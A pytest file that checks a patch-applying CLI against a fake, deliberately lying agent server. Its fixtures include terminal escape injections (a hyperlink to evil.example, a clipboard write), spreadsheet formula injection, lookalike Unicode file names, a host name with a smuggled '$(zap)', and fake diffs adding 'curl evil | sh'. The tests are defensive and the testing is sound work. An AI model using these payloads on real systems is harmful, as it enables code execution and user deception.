"""A box that lies in what it says, not in its patch: the real CLI against tests/fake_box.py
answering with escapes and invisible letters, NaN and 1e400, JSON nested 100,000 deep, a list
where an object belongs, a Content-Length of 10^30, a diff or an event line that never ends,
a byte every half second, or nothing at all. Each becomes one clear error (exit 3) or text
shown as the characters it is: no traceback, no MemoryError, no wait without end, memory
bounded (the CLI's peak RSS is read from the kernel, `os.wait4`). Also the "Look closely"
notes for files that run by themselves, and names that look like other names."""

from __future__ import annotations

import json
import subprocess
import sys
import tempfile
import time
from typing import List, Tuple

import pytest

from conftest import Laptop, make_repo
from fake_box import FakeBox, answer, endless, hang, trickle

JOB = "abc123"
JOB2 = "def456"
FIGURES = {"asks": 1, "done": 1, "failed": 0, "cancelled": 0, "ai_minutes": 1.5, "turns": 3, "tokens_in": 10,
           "tokens_out": 20, "cache_read_tokens": 0, "cache_write_tokens": 0, "cost_usd": 0.01,
           "files_changed": 1, "lines_added": 2, "lines_removed": 0, "queue_wait_minutes": 0.0}
MB = 2 ** 20


def new_file(path: bytes, text: bytes = b"x\n") -> bytes:
    lines = text.splitlines(keepends=True)
    return (b"diff --git a/%s b/%s\nnew file mode 100644\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1,%d @@\n"
            % (path, path, path, len(lines)) + b"".join(b"+" + line for line in lines))


@pytest.fixture
def world(tmp_path):
    root = make_repo(tmp_path / "laptop", {"README.md": b"# demo\n", "src/app.py": b"print('hello')\n",
                                            ".gitignore": b".pwtoken\n"})
    (root / ".pwtoken").write_text("pw_fake\n")
    box = FakeBox(tmp_path / "mirror")
    lap = Laptop(root)
    lap.run("init", "--agent", box.url, "--token-file", ".pwtoken", check=0)
    yield lap, box
    box.close()


def clean_failure(result, phrase: str, status: int = 3) -> None:
    """One plain message naming `phrase`: no traceback, no escape sequence, the exit status."""
    assert "Traceback" not in result.err and "MemoryError" not in result.err, result.err[-3000:]
    assert result.returncode == status, f"exit {result.returncode}\n{result.err[-3000:]}"
    assert phrase in result.err, result.err[-3000:]
    assert "\x1b" not in result.err


def strict(line: str):
    """JSON as JavaScript's JSON.parse reads it: NaN and Infinity are errors."""
    def refuse(name):
        raise ValueError(f"{name} is not JSON")
    return json.loads(line, parse_constant=refuse)


# The CLI's peak RSS: wait4's ru_maxrss. A child keeps the high-water mark of the process it
# was forked from (pytest, holding earlier output), so a small launcher starts the CLI and
# reads the CLI's own figure.
LAUNCHER = ("import os, subprocess, sys\n"
            "p = subprocess.Popen(sys.argv[1:])\n"
            "_, status, usage = os.wait4(p.pid, 0)\n"
            "sys.stderr.write('\\npeak_kb=%d\\n' % usage.ru_maxrss)\n"
            "sys.exit(os.waitstatus_to_exitcode(status))\n")


def run_measured(lap: Laptop, *args: str, env=None, timeout: float = 120) -> Tuple[int, str, str, float]:
    """(exit status, stdout, stderr, peak RSS in MB) of the CLI."""
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        code = subprocess.run([sys.executable, "-c", LAUNCHER, *lap.program, *args], cwd=lap.root, stdout=out,
                              stderr=err, stdin=subprocess.DEVNULL, env={**lap.env, **(env or {})},
                              timeout=timeout).returncode
        out.seek(0)
        err.seek(0)
        stdout, stderr = out.read().decode("utf-8", "replace"), err.read().decode("utf-8", "replace")
    stderr, _, peak = stderr.rpartition("\npeak_kb=")
    return code, stdout, stderr, int(peak) / 1024


def events(*lines: dict) -> bytes:
    return b"".join(json.dumps({"seq": n + 1, "job": JOB, **e}).encode() + b"\n" for n, e in enumerate(lines))


# ------------------------------------------------------------------ text that reaches a person


def test_usage_table_and_csv_show_the_boxs_escapes_as_text(world):
    lap, box = world
    rows = [dict(FIGURES, key="\x1b]8;;http://evil.example/\x07click me\x1b]8;;\x07"),
            dict(FIGURES, key="alice/\x1b]52;c;cHduZWQ=\x07\x1b[2J\x1b[H"),
            dict(FIGURES, key='=HYPERLINK("http://evil.example/","x")'), dict(FIGURES, key="@SUM(1)")]
    report = {"since": 0, "until": 86400, "group": "project", "user": "alice\x1b[2J", "rows": rows,
              "total": FIGURES, "removed_users": []}
    box.lie("GET /v1/usage", answer(json.dumps(report).encode()))
    table = lap.run("usage", check=0)
    assert "\x1b" not in table.out
    assert "^[]8;;http://evil.example/^Gclick me^[]8;;^G" in table.out and "^[]52;c;cHduZWQ=^G^[[2J" in table.out
    assert "user alice^[[2J" in table.out
    csv = lap.run("usage", "--csv", check=0)
    assert "\x1b" not in csv.out
    cells = [line.split(",")[0] for line in csv.out.splitlines()]
    assert "'@SUM(1)" in cells and any(c.startswith("\"'=HYPERLINK(") for c in cells), cells


def test_invisible_letters_and_separators_from_the_box_are_shown(world):
    lap, box = world
    text = "a\u061cb\u2028c\u2029d\u3164e\u2800f\U000e0041g\u034fh\u115fi"
    box.add_job(JOB, new_file(b"docs/new.md"), ask=True, events=[{"type": "text", "text": text}])
    asked = lap.run("ask", "--no-apply", "go", check=0)
    for shown in ("<U+061C>", "<U+2028>", "<U+2029>", "<U+3164>", "<U+2800>", "<U+E0041>", "<U+034F>", "<U+115F>"):
        assert shown in asked.err, (shown, asked.err)


def test_a_newline_in_a_refusal_starts_no_line_of_its_own(world):
    lap, box = world
    lie = {"error": "busy\npatchwire: applied job abc123: 1 file(s) changed", "hint": "wait\nkept job abc123"}
    box.lie("POST /v1/ask", answer(json.dumps(lie).encode(), status=403))
    asked = lap.run("ask", "go")
    clean_failure(asked, "the agent refused: busy")
    assert "  patchwire: applied job abc123" in asked.err
    assert not [line for line in asked.err.splitlines() if line.startswith(("patchwire: applied", "kept job"))]


def test_jobs_json_is_strict_json_whatever_the_box_sends(world):
    lap, box = world
    box.lie("GET /v1/jobs", answer(b'{"jobs": [{"id": "abc123", "status": "done", "created": NaN, '
                                   b'"project": "p", "prompt": "x"}]}'))
    listed = lap.run("jobs", "--json")
    clean_failure(listed, "NaN")
    assert [strict(line) for line in listed.out.splitlines()][-1]["exit_status"] == 3


def test_ask_json_takes_no_outcome_from_the_box(world):
    lap, box = world
    box.add_job(JOB, new_file(b"docs/new.md"), ask=True, events=[
        {"type": "outcome", "applied": True, "files": ["evil.sh"], "look_closely": []}])
    asked = lap.run("ask", "--json", "--no-apply", "go")
    clean_failure(asked, "'outcome', which only this laptop writes")
    printed = [strict(line) for line in asked.out.splitlines()]
    assert not [p for p in printed if p.get("type") == "outcome"] and printed[-1]["exit_status"] == 3


DEEP = b"[" * 100000 + b"]" * 100000
MALFORMED = [  # (name, route, the lie, the command, the words of the error, its exit status)
    ("nested 100,000 deep", "GET /v1/jobs", answer(DEEP), ["jobs"], "nests deeper than 32 levels", 3),
    ("1e400", "GET /v1/jobs", answer(b'{"jobs": [{"id": "abc123", "status": "done", "created": 1e400}]}'),
     ["jobs"], "a number too large", 3),
    ("5,000 digits", "POST /v1/ask", answer(b'{"type": "queued", "job": "abc123", "seq": 1' + b"0" * 5000 + b"}\n",
                                           kind="application/x-ndjson"), ["ask", "go"], "a number of 5001 digits", 3),
    ("an event that is not an object", "GET /v1/jobs/abc123/events",
     answer(b'"text"\n', kind="application/x-ndjson"), ["show", JOB], "the agent's event is a string", 3),
    ("a field of the wrong type", "GET /v1/jobs", answer(b'{"jobs": [{"id": "abc123", "status": "done", '
                                                         b'"created": "yesterday"}]}'),
     ["jobs"], "has a created that is a string", 3),
    ("Content-Length 10^30", "GET /v1/jobs/abc123/diff", answer(b"x", kind="text/plain", length="1" + "0" * 30),
     ["diff", JOB], "over the laptop's limit of 32.0 MB", 3),
    ("a health answer that is a list", "GET /v1/health", answer(b"[]"), ["doctor"],
     "the agent's health answer is a list, not a JSON object", 1),
]


@pytest.mark.parametrize("name, route, lie, command, phrase, status", MALFORMED, ids=[m[0] for m in MALFORMED])
def test_a_malformed_answer_is_one_clear_error(world, name, route, lie, command, phrase, status):
    lap, box = world
    box.add_job(JOB, new_file(b"docs/new.md"))
    box.lie(route, lie)
    result = lap.run(*command, timeout=60)
    if command == ["doctor"]:  # doctor reports the failed check on stdout and goes on
        result.err += result.out
    clean_failure(result, phrase, status)


# ------------------------------------------------------------------ bounded reading


def test_a_diff_that_never_ends_is_refused_in_bounded_memory(world):
    lap, box = world
    box.add_job(JOB, b"")
    piece = new_file(b"docs/big.md", b"line of a diff that goes on and on\n" * 1000)
    box.lie("GET /v1/jobs/abc123/diff", endless(piece))
    status, out, err, peak = run_measured(lap, "diff", JOB)
    assert status == 3 and "the agent's diff is over the laptop's limit of 32.0 MB" in err, err[-2000:]
    assert "Traceback" not in err and peak < 100, peak


@pytest.mark.parametrize("size", [150 * MB, None], ids=["150 MB", "endless"])
def test_an_event_line_that_never_ends_is_refused_in_bounded_memory(world, size):
    lap, box = world
    box.add_job(JOB, b"")
    box.lie("GET /v1/jobs/abc123/events", endless(b"x" * MB, size, kind="application/x-ndjson",
                                                  first=b'{"seq": 1, "type": "text", "text": "'))
    status, out, err, peak = run_measured(lap, "show", JOB)
    assert status == 3 and "an event line over the laptop's limit of 1.0 MB" in err, err[-2000:]
    assert "Traceback" not in err and peak < 100, peak


def test_show_streams_a_jobs_events_instead_of_keeping_them(world):
    lap, box = world
    box.add_job(JOB, b"")
    one = json.dumps({"seq": 1, "job": JOB, "type": "text", "text": "thinking " * 220}).encode() + b"\n"
    box.lie("GET /v1/jobs/abc123/events", endless(one * 64, len(one) * 64 * 600, kind="application/x-ndjson"))
    status, out, err, peak = run_measured(lap, "show", JOB, timeout=300)
    assert status == 0 and err.count("s thinking thinking") == 64 * 600, err[-2000:]
    assert peak < 100, peak
    status, out, err, peak = run_measured(lap, "show", JOB, "--json", timeout=300)
    assert status == 0 and peak < 100, (peak, err[-2000:])
    shown = json.loads(out)
    assert shown["job"]["id"] == JOB and len(shown["events"]) == 64 * 600


def test_a_box_that_trickles_is_cut_off_by_the_whole_request_deadline(world):
    lap, box = world
    jobs = json.dumps({"jobs": [{"id": JOB, "status": "done", "created": 0, "prompt": "x" * 200}]}).encode()
    box.lie("GET /v1/jobs", trickle(jobs, 0.5))
    t0 = time.monotonic()
    listed = lap.run("jobs", env={"PATCHWIRE_TIMEOUT": "3"}, timeout=60)
    clean_failure(listed, "the agent's job list did not arrive within 3 s")
    assert time.monotonic() - t0 < 15
    box.lie("POST /v1/ask", trickle(events({"type": "queued", "position": 0}), 0.5, kind="application/x-ndjson"))
    asked = lap.run("ask", "go", env={"PATCHWIRE_TIMEOUT": "2"}, timeout=60)
    clean_failure(asked, "sent no whole line for 4 s")


def test_ask_says_it_is_still_waiting_and_gives_up_on_a_silent_box(world):
    lap, box = world
    box.lie("POST /v1/ask", hang(events({"type": "queued", "position": 0})))
    t0 = time.monotonic()
    asked = lap.run("ask", "go", env={"PATCHWIRE_TIMEOUT": "3"}, timeout=60)
    clean_failure(asked, "sent no whole line for 6 s")
    assert asked.err.count("still waiting for the box (") >= 2, asked.err
    assert time.monotonic() - t0 < 20


# ------------------------------------------------------------------ file names


def test_a_file_named_like_a_flag_is_applied_as_a_file(world):
    lap, box = world
    box.add_job(JOB, new_file(b"--undo") + new_file(b"docs/other.md"))
    applied = lap.run("apply", "--json", "--yes", JOB, "--", "--undo", check=0)
    assert json.loads(applied.out)["files"] == ["--undo"]
    assert (lap.root / "--undo").read_text() == "x\n" and not (lap.root / "docs/other.md").exists()


SELF_RUNNING: List[Tuple[str, str]] = [
    ("android/gradle/wrapper/gradle-wrapper.properties", "build wrapper or its download"),
    ("android/gradle/wrapper/gradle-wrapper.jar", "build wrapper or its download"),
    ("android/gradle.properties", "build script or hook"),
    ("ios/Runner.xcodeproj/project.pbxproj", "build script or hook"),
    ("pubspec_overrides.yaml", "build script or hook"),
    ("hook/build.dart", "build script or hook"),
    (".mvn/wrapper/maven-wrapper.properties", "build wrapper or its download"),
    ("mvnw", "build wrapper or its download"),
    (".yarn/releases/yarn-4.1.0.cjs", "build wrapper or its download"),
    (".cargo/config.toml", "build script or hook"),
    ("Dockerfile", "container"),
    ("Taskfile.yml", "build script or hook"),
    ("justfile", "build script or hook"),
    (".gitlab-ci.yml", "CI"),
    (".circleci/config.yml", "CI"),
    ("bitbucket-pipelines.yml", "CI"),
    ("azure-pipelines.yml", "CI"),
    ("Jenkinsfile", "CI"),
    (".mcp.json", "AI agent configuration"),
    ("CLAUDE.md", "AI agent configuration"),
    ("app.code-workspace", "editor or tool configuration"),
    ("__pycache__/perm.cpython-311.pyc", "compiled code"),  # imported in place of the reviewed perm.py
    ("native/libcrypto.so", "compiled code"),
    ("web/app.wasm", "compiled code"),
    ("lib/Helper.class", "compiled code"),
]
LOOKALIKES = ["src/\u0430pp.py", "docs/a\u3164b.md", "docs/\u2800.md", "docs/x\U000e0041.md", "docs/c\u034fd.md",
              "src/\uff41pp.py"]


def test_look_closely_names_what_runs_by_itself_and_names_that_look_like_others(world):
    lap, box = world
    patch = b"".join(new_file(p.encode()) for p, _ in SELF_RUNNING) + b"".join(new_file(p.encode()) for p in LOOKALIKES)
    box.add_job(JOB, patch)
    notes = json.loads(lap.run("diff", JOB, "--json", check=0).out)["look_closely"]
    by_path = {n["path"]: n for n in notes}
    for path, category in SELF_RUNNING:
        assert by_path.get(path, {}).get("category") == category, (path, by_path.get(path))
    assert "distributionUrl" in by_path["android/gradle/wrapper/gradle-wrapper.properties"]["reason"]
    for path in LOOKALIKES:
        assert by_path.get(path, {}).get("category") == "lookalike name", (path, by_path.get(path))
    assert by_path["src/\u0430pp.py"]["reason"].endswith("it reads as src/app.py")
    assert "src/app.py" not in by_path


def test_diff_json_carries_the_jobs_egress_report_for_the_review(world):
    """The VS Code review shows what the job contacted beside its files: `diff --json` carries
    the box's report as data (the extension neutralises it); without one, or when the box
    cannot be asked, the key is absent and the diff still reviews."""
    lap, box = world
    network = {"contacted": {"pub.dev": {"allowed": 2, "refused": 0, "sent": 10, "received": 99}},
               "refused": {"evil.example$(zap)": 3}}
    box.add_job(JOB, new_file(b"a.txt"), result={"network": network})
    assert json.loads(lap.run("diff", JOB, "--json").out)["network"] == network
    box.add_job(JOB2, new_file(b"b.txt"), result={"network": "not a report"})
    assert "network" not in json.loads(lap.run("diff", JOB2, "--json").out)


# A job is resolved once to its full id, and the diff kept under that id is the one reviewed,
# shown beside the editor's sides and applied: a box that names another job, or serves other
# bytes to a prefix, gets nothing of it applied unseen.


def record(job: str) -> bytes:
    return json.dumps({"id": job, "status": "done", "project": "laptop", "prompt": "x", "created": 1.0}).encode()


def test_the_editors_sides_are_of_the_job_reviewed_whatever_id_the_box_answers(world):
    """VS Code's diff editor reads each side with `diff JOB --file P --side new --json`, and
    Apply writes JOB's kept diff: a box answering JOB's record with an earlier, harmless job's
    id must not make the editor show that job's result."""
    lap, box = world
    box.add_job("aaaa1111", new_file(b"src/new.py", b"print('a friendly greeting')\n"), ask=True)
    box.add_job("bbbb2222", new_file(b"src/new.py", b"import os; os.system('curl evil | sh')\n"), ask=True)
    for prompt in ("first", "second"):
        lap.run("ask", prompt, "--no-apply", "--json", check=0)
    reviewed = json.loads(lap.run("diff", "bbbb2222", "--json").out)
    box.lie("GET /v1/jobs/bbbb2222", answer(record("aaaa1111")))
    side = json.loads(lap.run("diff", "bbbb2222", "--file=src/new.py", "--side", "new", "--json").out)
    assert side["job"] == "bbbb2222" and "curl evil" in side["text"], side
    del box.lies["GET /v1/jobs/bbbb2222"]
    lap.run("apply", "bbbb2222", "--yes", "--sha256", reviewed["sha256"], check=0)
    assert (lap.root / "src/new.py").read_bytes() == side["text"].encode()


def test_a_diff_reviewed_by_a_prefix_is_the_one_applied(world):
    """`diff abc` then `apply abc --yes`: the prefix is resolved by the jobs this laptop knows,
    never by the box again, so the bytes applied are the bytes shown, whatever the box serves
    to the prefix's own route."""
    lap, box = world
    box.add_job("abc12345", new_file(b"notes.txt", b"the real change\n"), ask=True)
    lap.run("ask", "x", "--no-apply", check=0)
    box.lie("GET /v1/jobs/abc/diff", answer(new_file(b"notes.txt", b"another change\n"), kind="application/octet-stream"))
    shown = lap.run("diff", "abc").out
    assert "+the real change" in shown and "another" not in shown
    lap.run("apply", "abc", "--yes", check=0)
    assert (lap.root / "notes.txt").read_bytes() == b"the real change\n"
    assert not [r for r in box.requests if r.startswith("GET /v1/jobs/abc/") or r == "GET /v1/jobs/abc"]


def test_a_job_asked_elsewhere_is_resolved_once_then_kept_by_its_full_id(world):
    """A job this laptop did not ask: the box resolves the prefix once (`diff`), the diff is
    kept under the full id, and a later `apply` by the same prefix goes by that id; a box that
    then names another job for it is refused, nothing written."""
    lap, box = world
    box.add_job("abc12345", new_file(b"notes.txt", b"reviewed\n"))
    assert "+reviewed" in lap.run("diff", "abc").out
    box.add_job("abc12345ff", new_file(b"notes.txt", b"never shown\n"))
    box.lie("GET /v1/jobs/abc12345", answer(record("abc12345ff")))
    box.lie("GET /v1/jobs/abc", answer(record("abc12345ff")))
    clean_failure(lap.run("apply", "abc", "--yes"), "asked for job abc12345, the agent answered with job abc12345ff")
    assert not (lap.root / "notes.txt").exists()


@pytest.mark.parametrize("command", [("apply", "--yes"), ("wait", "--yes")])
def test_a_job_named_in_full_is_that_job_whatever_id_the_box_answers(world, command):
    """The id the ask printed, given to `apply` or `wait`: a box answering the record of a job
    it never named before (the id it was asked for, and more digits) is refused; nothing written."""
    lap, box = world
    box.add_job("def45678", new_file(b"notes.txt", b"reviewed\n"), ask=True)
    lap.run("ask", "x", "--no-apply", check=0)
    assert "+reviewed" in lap.run("diff", "def45678").out
    box.add_job("def45678ff", new_file(b"notes.txt", b"never shown\n"))
    box.lie("GET /v1/jobs/def45678", answer(record("def45678ff")))
    clean_failure(lap.run(command[0], "def45678", command[1]),
                  "asked for job def45678, the agent answered with job def45678ff", status=3)
    assert not (lap.root / "notes.txt").exists()


def test_a_prefix_of_two_jobs_here_is_a_usage_error(world):
    lap, box = world
    for job in ("abc11111", "abc22222"):
        box.add_job(job, new_file(b"notes.txt"), ask=True)
        lap.run("ask", "x", "--no-apply", check=0)
    clean_failure(lap.run("diff", "abc"), "abc is the start of 2 jobs here: abc11111, abc22222", status=2)


@pytest.mark.parametrize("where", ["sibling", "relative", "inside", "dotdot", "link"])
def test_the_laptops_rsync_writes_only_where_the_agent_keeps_mirrors(world, tmp_path, where):
    """Without `ssh` the laptop's own rsync writes into the folder the agent names: an agent of
    another account, or a lying one, naming another folder of the user's (a sibling checkout,
    one reached by "..", the project itself) gets a refusal and nothing is sent."""
    lap, box = world
    sibling = make_repo(tmp_path / "users/alice/mirror/laptop-old", {"README.md": b"# my other work\n"})
    mirror = {"sibling": str(sibling), "relative": "users/alice/mirror/laptop",
              "inside": str(lap.root / "users/alice/mirror/laptop"),
              "dotdot": str(box.state / "users/alice/mirror/laptop/../../../../laptop-old/users/alice/mirror/laptop"),
              "link": str(tmp_path / "evil/users/alice/mirror/laptop")}[where]
    if where == "link":  # named as a mirror, leading to the sibling checkout
        (tmp_path / "evil/users/alice/mirror").mkdir(parents=True)
        (tmp_path / "evil/users/alice/mirror/laptop").symlink_to(sibling)
    box.lie("GET /v1/me", answer(json.dumps({"user": "alice", "mirror": mirror}).encode()))
    clean_failure(lap.run("sync"), "as the folder to sync into")
    assert (sibling / "README.md").read_bytes() == b"# my other work\n" and not (sibling / "src").exists()
    assert not (lap.root / "users").exists() and not (tmp_path / "laptop-old").exists()
    del box.lies["GET /v1/me"]
    lap.run("sync", check=0)  # where the agent keeps it: sent
    assert (box.mirror / "src/app.py").read_bytes() == b"print('hello')\n"


def test_wait_yes_applies_unseen_only_jobs_asked_from_here(world):
    """A bare `wait --yes` follows the box's list of this project's running jobs: a job the
    box lists that this laptop never asked is left out, never applied unseen; named, it is
    waited for (and a terminal would preview it)."""
    lap, box = world
    box.add_job("feed1234", new_file(b"evil.sh", b"curl evil | sh\n"), status="running")
    out = lap.run("wait", "--yes", check=0)
    assert "left out 1 job(s) not asked from here (feed1234)" in out.err, out.err
    assert not (lap.root / "evil.sh").exists()
    box.add_job("abc12345", new_file(b"notes.txt", b"mine\n"), ask=True)
    lap.run("ask", "x", "--detach", check=0)
    box.jobs["abc12345"]["status"] = "running"
    lap.run("wait", "--yes", check=0)
    assert (lap.root / "notes.txt").read_bytes() == b"mine\n" and not (lap.root / "evil.sh").exists()


def test_a_job_the_box_names_after_a_prefix_it_saw_is_no_match_for_it(world):
    """The box saw `diff abc` resolve to abc111aaaaaa; it names the next ask's job "abc". Then
    `apply abc` is two jobs here, never the new one applied unseen in place of the reviewed."""
    lap, box = world
    box.add_job("abc111aaaaaa", new_file(b"notes.txt", b"reviewed\n"), ask=True)
    lap.run("ask", "x", "--no-apply", check=0)
    assert "+reviewed" in lap.run("diff", "abc").out
    box.add_job("abc", new_file(b"notes.txt", b"never shown\n"), ask=True)
    lap.run("ask", "y", "--detach", check=0)  # known here from now on
    clean_failure(lap.run("apply", "abc", "--yes"), "abc is the start of 2 jobs here: abc, abc111aaaaaa", status=2)
    assert not (lap.root / "notes.txt").exists()
    lap.run("apply", "abc111aaaaaa", "--yes", check=0)
    assert (lap.root / "notes.txt").read_bytes() == b"reviewed\n"
